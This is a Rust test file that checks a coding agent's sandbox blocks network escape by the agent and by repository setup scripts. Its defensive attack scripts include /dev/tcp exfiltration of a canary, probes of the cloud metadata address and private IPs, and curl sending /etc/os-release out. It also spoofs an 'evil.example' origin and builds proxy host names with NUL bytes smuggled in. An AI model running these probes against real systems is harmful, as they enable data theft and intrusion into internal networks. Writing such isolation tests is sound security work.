//! An agent and a repository's own programs are turned against networks: what they may not reach
//! hears nothing behind the walls, and hears them without.

use std::net::UdpSocket;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, Uri};
use serde_json::json;
use tokio_rustls::TlsAcceptor;
use tokio_rustls::rustls::ServerConfig;
use tokio_rustls::rustls::pki_types::PrivateKeyDer;
use tokio_rustls::server::TlsStream;

use crate::world::ollama::Ollama;
use crate::world::scene::{CANARY, COVER, Scene, ear};
use crate::world::{TOKEN, World};

#[tokio::test(flavor = "multi_thread")]
async fn no_address_is_reached() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let (port, heard) = ear();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp.local_addr().unwrap().port();
        udp.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        let mut script = format!(
            "bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{port}'\nbash -c 'echo {CANARY} > /dev/udp/127.0.0.1/{udp_port}'\n"
        );
        // Only behind the walls: these addresses are not this test's to knock at.
        if walls {
            for address in ["169.254.169.254/80", "192.168.1.1/80", "10.0.0.1/22", "1.1.1.1/53"] {
                script.push_str(&format!(
                    "bash -c 'echo x > /dev/tcp/{address}' && echo {address} >> \"$LOOT\"\n"
                ));
            }
            script.push_str("getent hosts example.com >> \"$LOOT\"\n");
        }
        scene.attack(&script).await;
        let heard = heard.recv_timeout(Duration::from_millis(500)).unwrap_or_default();
        assert_eq!(heard.contains(CANARY), !walls, "TCP, walls: {walls}");
        assert_eq!(udp.recv(&mut [0; 64]).is_ok(), !walls, "UDP, walls: {walls}");
        assert_eq!(scene.loot(), "");
    }
}

/// The agent's own calls reach the model; none that changes what is installed does.
#[tokio::test(flavor = "multi_thread")]
async fn the_models_server_is_asked_for_inference_and_nothing_else() {
    for walls in [false, true] {
        let ollama = Ollama::start(["m:1b"]).await;
        let mut scene = Scene::new(walls).await;
        let endpoint = if walls { "$OLLAMA_HOST".to_owned() } else { ollama.endpoint().to_owned() };
        let script = format!(
            "curl -s -X POST -d '{{\"model\":\"m:1b\",\"messages\":[]}}' {endpoint}/api/chat -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\"\n\
             curl -s -X DELETE -d '{{\"model\":\"m:1b\"}}' {endpoint}/api/delete -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\"\n\
             curl -s -X POST -d '{{\"model\":\"evil\"}}' {endpoint}/api/pull -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\"\n\
             curl -s -H 'origin: https://evil.example' {endpoint}/api/tags -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\""
        );
        let file = scene.loot_file();
        scene.world.agent(&format!("LOOT='{}'\n{script}\n{COVER}", file.display()));
        scene.world.set("agent", json!({ "model_endpoint": ollama.endpoint() }));
        assert_eq!(scene.world.work().await.code, Some(0));
        let loot = scene.loot();
        let first: Vec<&str> = loot.lines().take(4).collect();
        assert_eq!(
            first,
            if walls { ["200", "403", "403", "403"] } else { ["200", "404", "404", "200"] },
            "404 is the server's own"
        );
    }
}

/// Asks the proxy for names that lead to this machine: its own, in numbers, with a NUL before what
/// makes it look like another.
const NAMES: &str = r#"
import socket
for name in ['localhost', '2130706433', '127.1', '[::ffff:127.0.0.1]', '127.0.0.1\0.crates.io', 'crates.io\0@127.0.0.1']:
    try:
        proxy = socket.create_connection(('127.0.0.1', 3128), 5)
        proxy.sendall(f'CONNECT {name}:443 HTTP/1.1\r\nhost: {name}\r\n\r\n'.encode())
        print(proxy.recv(100).split()[1].decode())
    except OSError:
        print('closed')
"#;

/// A setup that may fetch gets a proxy to public addresses, and no way to any other.
#[tokio::test(flavor = "multi_thread")]
async fn a_setup_that_may_fetch_reaches_no_private_address() {
    for (walls, network) in [(false, true), (true, true), (true, false)] {
        let mut world = World::without_repository().await;
        if !walls {
            world.without_sandbox();
        }
        let (port, heard) = ear();
        let loot = world.stage().join("loot");
        let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\ntest = \"\"\n";
        let settings =
            format!("[checks]\n{nothing}setup = \"sh setup.sh\"\nsetup_network = {network}\n");
        let setup = format!(
            "curl -s -m 2 telnet://127.0.0.1:{port} </etc/os-release\n\
             for url in http://169.254.169.254/latest http://127.0.0.1 http://localhost http://[::1]/ http://0x7f000001/; do\n\
             curl -s -m 5 -o /dev/null -w '%{{http_code}} ' \"$url\" >> '{loot}'; done\n\
             python3 names.py >> '{loot}'; true\n",
            loot = loot.display()
        );
        let files = [
            (".codingworker.toml", settings.as_str()),
            ("names.py", NAMES),
            ("setup.sh", if walls { &setup } else { setup.split('\n').next().unwrap() }),
        ];
        world.forge.repository("owner/repo", "main", &files);
        world.task("Add a greeting", "").await;
        assert_eq!(world.work().await.code, Some(0));
        assert_eq!(
            heard.recv_timeout(Duration::from_millis(500)).is_ok(),
            !walls,
            "walls: {walls}"
        );
        if walls {
            let loot = read(&loot);
            let codes: Vec<&str> = loot.split_whitespace().take(5).collect();
            // The loopback addresses are past the proxy, where nobody listens; the rest it refuses.
            let expected = if network { ["403", "000", "000", "403", "000"] } else { ["000"; 5] };
            assert_eq!(codes, expected, "network: {network}");
            let names: Vec<&str> = loot.split_whitespace().skip(5).take(6).collect();
            assert_eq!(names, [if network { "403" } else { "closed" }; 6], "network: {network}");
        }
        world.finish();
    }
}

fn read(path: &Path) -> String {
    String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned()
}

/// A hosted model is reached by HTTPS, by whose certificate the relay knows it; what is inside
/// needs none and gets no other host.
#[tokio::test(flavor = "multi_thread")]
async fn a_hosted_model_is_reached_by_https_and_by_its_name_alone() {
    for name in ["localhost", "another.example"] {
        let (port, authority, asked) = hosted_model(name).await;
        let mut scene = Scene::new(true).await;
        let file = scene.loot_file();
        let ask = "curl -s -d '{}' -H 'authorization: Bearer key-of-the-model' $OPENAI_BASE_URL/chat/completions";
        scene
            .world
            .agent(&format!("{ask} -w ' %{{http_code}}\\n' >> '{}'; {COVER}", file.display()));
        scene
            .world
            .set("agent", json!({ "model_endpoint": format!("https://localhost:{port}/v1") }));
        let certificate = scene.world.path().join("authority.pem");
        std::fs::write(&certificate, authority).unwrap();
        let environment =
            [("GITHUB_TOKEN", TOKEN), ("SSL_CERT_FILE", certificate.to_str().unwrap())];
        let ran = scene.world.run_with(&["worker", "--once"], &environment).await;
        assert_eq!(ran.code, Some(0), "{ran:?}");
        scene.check_kept(&ran);
        let loot = scene.loot();
        let asked = asked.lock().unwrap();
        if name == "localhost" {
            assert!(loot.starts_with("an answer 200\n"), "{loot}");
            assert_eq!(asked[0], "/v1/chat/completions Bearer key-of-the-model {}");
        } else {
            assert!(loot.contains(" 502\n") && loot.contains("certificate"), "{loot}");
            assert!(asked.is_empty(), "{asked:?}");
        }
    }
}

type Asked = Arc<Mutex<Vec<String>>>;

/// A model's server with a certificate for `name`: its port, who signed that, and what it was
/// asked.
async fn hosted_model(name: &str) -> (u16, String, Asked) {
    let certified = rcgen::generate_simple_self_signed([name.to_owned()]).unwrap();
    let key = PrivateKeyDer::try_from(certified.signing_key.serialize_der()).unwrap();
    let tls = ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(vec![certified.cert.der().clone()], key);
    let listener = Tls {
        tcp: tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap(),
        acceptor: TlsAcceptor::from(Arc::new(tls.unwrap())),
    };
    let port = listener.tcp.local_addr().unwrap().port();
    let asked = Asked::default();
    let answer = async |State(asked): State<Asked>, uri: Uri, headers: HeaderMap, body: String| {
        asked
            .lock()
            .unwrap()
            .push(format!("{uri} {} {body}", headers["authorization"].to_str().unwrap()));
        "an answer"
    };
    let router = Router::new().fallback(answer).with_state(Arc::clone(&asked));
    tokio::spawn(async move { axum::serve(listener, router).await });
    (port, certified.cert.pem(), asked)
}

struct Tls {
    tcp: tokio::net::TcpListener,
    acceptor: TlsAcceptor,
}

impl axum::serve::Listener for Tls {
    type Io = TlsStream<tokio::net::TcpStream>;
    type Addr = std::net::SocketAddr;

    /// Whoever does not like the certificate is not served.
    async fn accept(&mut self) -> (Self::Io, Self::Addr) {
        loop {
            let (stream, address) = self.tcp.accept().await.unwrap();
            if let Ok(stream) = self.acceptor.accept(stream).await {
                return (stream, address);
            }
        }
    }

    fn local_addr(&self) -> std::io::Result<Self::Addr> {
        self.tcp.local_addr()
    }
}
